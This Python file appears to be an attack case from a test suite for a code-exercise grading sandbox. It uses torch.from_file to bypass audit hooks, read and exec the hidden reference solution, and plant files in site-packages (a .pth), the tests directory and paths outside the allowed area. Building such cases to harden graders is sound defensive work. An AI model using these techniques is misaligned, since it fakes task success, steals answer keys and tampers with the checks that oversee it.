"""Class: file access through PyTorch, which the interop exercise may import: torch.from_file
maps a file in native code (no audit event), shared=True writes through to disk and creates the
file; torch.load with weights_only=False unpickles.

Gain: reading the reference solution (and running it), and creating or overwriting any file the
grading user may write (a check file, a grader module, a .pth in site-packages) byte for byte.
"""

# ruff: noqa
EXERCISE = "other_frameworks"
BASE = "stub"
WITNESSES = ["inplace_updates"]

# --- attack ---
import torch as _torch


def _read(path):
    low, high = 0, 1 << 20  # the largest mapping that succeeds is the file's size
    while low < high:
        middle = (low + high + 1) // 2
        try:
            _torch.from_file(path, shared=False, size=middle, dtype=_torch.uint8)
            low = middle
        except RuntimeError:
            high = middle - 1
    if low == 0:
        return None
    raw = _torch.from_file(path, shared=False, size=low, dtype=_torch.uint8)
    return bytes(raw.tolist()).decode("utf-8", "replace")


try:
    _text = _read("@SOLUTION@")
except Exception:
    _text = None


def _write(path, data):
    try:
        mapped = _torch.from_file(path, shared=True, size=len(data), dtype=_torch.uint8)
        mapped[:] = _torch.tensor(list(data), dtype=_torch.uint8)
        del mapped
    except Exception:
        pass


_write("@SITE@/zz_torch.pth", b"import os; os.environ.setdefault('GRADE_PWNED', '1')\n")
_write("@ROOT@/tests/conftest_torch.py", b"# planted\n")
_write("@OUTSIDE@/planted_by_torch", b"planted\n")
try:
    _torch.save({"a": 1}, "@OUTSIDE@/planted.pt")
except Exception:
    pass
if _text:
    exec(_text)
